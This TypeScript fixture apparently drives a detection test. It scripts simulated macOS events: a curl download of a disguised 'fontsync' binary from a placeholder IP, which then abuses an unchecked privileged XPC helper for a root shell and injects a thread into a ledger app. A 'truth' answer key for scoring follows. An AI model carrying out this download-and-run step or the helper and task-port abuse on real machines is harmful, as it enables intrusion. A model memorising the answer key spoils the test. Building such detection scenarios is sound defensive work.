// The attack on the Mac: a program that nobody signed speaks to the ledger's privileged helper, which does not check who asks (T1559.003), and then puts a thread into
// the ledger program. What it runs asks who it is.
import type { Truth } from '../scenarios/scenario.ts'
import type { Mac, Program } from './mac.ts'
import { type Desktop, ZSH } from './ordinary-day.ts'

const DROPPED: Program = { image: '/Users/Shared/.fonts/fontsync', signingId: 'fontsync-5555494463f2a1' }
const tool = (name: string): Program => ({ image: `/usr/bin/${name}`, signingId: `com.apple.${name}`, platform: true })
const SH: Program = { image: '/bin/sh', signingId: 'com.apple.sh', platform: true }

export const privilegedHelper = {
  id: 'privileged-helper',
  story:
    "m.okafor ran a line from a web page. What it downloaded to /Users/Shared connects to the Mach service of the ledger's helper and has it run a shell as root; then it takes the task port of the ledger program and starts a thread in it.",
  play(mac: Mac, { terminal, ledger, helper }: Desktop): void {
    const shell = mac.run('15:41:10.000', ZSH, ['-zsh'], terminal)
    const curl = mac.run('15:41:30.200', tool('curl'), ['curl', '-so', DROPPED.image, 'http://203.0.113.45/f'], shell)
    mac.createFile('15:41:30.900', curl, '/Users/Shared/.fonts', 'fontsync')
    mac.exit('15:41:31.000', curl)
    const dropped = mac.run('15:41:33.100', DROPPED, [DROPPED.image], shell)
    mac.connectXpc('15:41:33.400', dropped, 'example.ashdown.ledger.helper')
    const root = mac.run(
      '15:41:33.900',
      SH,
      ['/bin/sh', '-c', '/usr/bin/id; /usr/bin/whoami > /Users/Shared/.fonts/who'],
      helper,
    )
    mac.exit('15:41:34.000', mac.run('15:41:33.950', tool('id'), ['/usr/bin/id'], root))
    mac.exit('15:41:34.100', mac.run('15:41:34.050', tool('whoami'), ['/usr/bin/whoami'], root))
    mac.exit('15:41:34.200', root)
    mac.getTask('15:41:40.000', dropped, ledger)
    mac.startThreadIn('15:41:40.200', dropped, ledger)
    mac.exit('15:41:55.000', dropped)
  },
  truth: {
    host: 'ASH-MAC01',
    from: '2026-03-04T15:41:10Z',
    to: '2026-03-04T15:41:55Z',
    account: '501',
    techniques: ['T1559.003'],
    also: [],
    channelKinds: ['xpc'],
    mentions: ['fontsync', 'example\\.ashdown\\.ledger\\.helper', 'Ledger\\.app'],
  } satisfies Truth,
}
